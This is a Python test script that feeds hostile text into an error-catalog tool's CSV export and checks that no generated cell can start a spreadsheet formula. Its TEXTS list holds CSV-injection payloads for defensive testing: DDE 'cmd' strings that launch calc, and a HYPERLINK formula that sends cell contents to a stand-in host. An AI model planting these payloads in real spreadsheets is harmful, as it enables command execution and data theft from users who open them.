"""Python's csv module reads the table of examples/support-csv, and tables of other catalogs by its
templates: each error has a row with its texts, and no cell can start a formula, also if a spreadsheet
splits lines at another character. Usage: support_csv.py FOLDER, the folder of the hostile catalogs, in a
copy of the example, with errcat on the path."""

import csv
import json
import pathlib
import shutil
import subprocess
import sys
import tempfile

COLUMNS = ["API", "Status", "Code", "Meaning", "What to do", "Retry", "Team", "Docs"]
# https://owasp.org/www-community/attacks/CSV_Injection
FORMULA = tuple("=+-@\t\r\n＝＋－＠")

# What spreadsheets run, or what ends a field too early, as texts of a catalog.
TEXTS = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example?q=\"&A1,\"See here\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-800-PARCELS",
    "-2+3+cmd|' /C calc'!A0",
    'a","=1+1',
    'a";"=1+1',
    "a;=1+1;b",
    "a, +1, -1",
    "＝1+1",
    "`=1+1`",
    "two \"quotes\", 'others', and a comma,",
    '"',
    '""',
    "a 'b",
    "Grüße, 世界 🎉",
]


def read(table: pathlib.Path, delimiter: str = ",") -> list[list[str]]:
    with table.open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file, delimiter=delimiter, strict=delimiter == ","))


def plain(text: object) -> str:
    """What is left of a text in every form that the table shows it in."""
    return "".join(c for c in str(text) if c.isalnum())


def compare(table: pathlib.Path, catalog: dict) -> int:
    """Compares a table with what the target `json` says about its catalog. Returns the number of rows."""
    header, *rows = read(table)
    assert header == COLUMNS, header
    errors = [(surface, error) for surface in catalog["surfaces"] for error in surface["errors"]]
    assert len(rows) == len(errors), f"{len(rows)} rows of {len(errors)} errors"
    for row, (surface, error) in zip(rows, errors, strict=True):
        assert len(row) == len(COLUMNS), row
        api, status, code, meaning, fix, _, team, docs = row
        assert status == " or ".join(map(str, error["statuses"])), row
        wanted = "" if error["code"] is None else str(error["code"])
        assert code.replace("'", "") == wanted.replace("'", ""), f"{code} is not {wanted}"
        assert docs == (error["docs_url"] or ""), row
        texts = [(api, surface["title"]), (meaning, error["meaning"]), (fix, error["fix"] or "")]
        texts.append((team, error["meta"].get("team", "support")))
        for cell, text in texts:
            assert plain(cell) == plain(text), f"{cell} is not {text}"
    for delimiter in ",;\t|":
        for cell in (cell for row in read(table, delimiter) for cell in row):
            is_number = cell.lstrip("-").isdecimal()
            assert is_number or not cell.lstrip().startswith(FORMULA), f"{delimiter!r}: {cell!r}"
    return len(rows)


def generated(folder: pathlib.Path, catalog: pathlib.Path) -> int:
    """Makes a table of a catalog with the templates of the example, and compares it."""
    shutil.copytree("templates", folder / "templates")
    shutil.copy(catalog, folder / "errors.yaml")
    outputs = [{"catalog": "errors.yaml", "target": name, "out": name} for name in ("support-csv", "json")]
    config = {"errcat": 1, "templates": "templates", "outputs": outputs}
    (folder / "errcat.yaml").write_text(json.dumps(config))
    subprocess.run(["errcat", "generate", "-q"], cwd=folder, check=True)
    return compare(folder / "support-csv/errors.csv", json.loads((folder / "json/catalog.json").read_text()))


def of_texts() -> str:
    """A catalog with each text in every field that the table shows."""
    errors = [
        {"code": text, "name": f"e{n}", "status": 400, "meaning": text, "fix": text, "retryable": False}
        # Only the author's own data may have line breaks.
        | {"meta": {"team": f"{text}\n{text}\r\n{text}\r=1"}}
        for n, text in enumerate(TEXTS)
    ]
    rest = {"errcat": 1, "product": "P", "version": "1.0.0", "title": "T", "intro": "I", "allow": ["near-code"]}
    rest["retry"] = {"statuses": [429], "initial": "1s", "max": "9s", "retries": 1}
    shape = {"body": {"error": "<code>"}}
    surface = {"id": "a", "title": TEXTS[0], "shape": shape, "errors": errors}
    return json.dumps(rest | {"surfaces": [surface]}, ensure_ascii=False)


def main() -> None:
    hostile = pathlib.Path(sys.argv[1])
    with tempfile.TemporaryDirectory() as top:
        folder = pathlib.Path(top)
        (folder / "texts.yaml").write_text(of_texts())
        catalogs = ["errors.yaml", folder / "texts.yaml", hostile / "all.yaml", hostile / "mixed.yaml"]
        rows = [generated(folder / str(n), pathlib.Path(path)) for n, path in enumerate(catalogs)]
    # The committed table is that of the example.
    assert len(read(pathlib.Path("support/errors.csv"))) == rows[0] + 1
    assert rows[1] == len(TEXTS) and rows[2] > 600, rows
    print(f"support-csv: {sum(rows)} rows say their texts, and no cell starts a formula")


main()
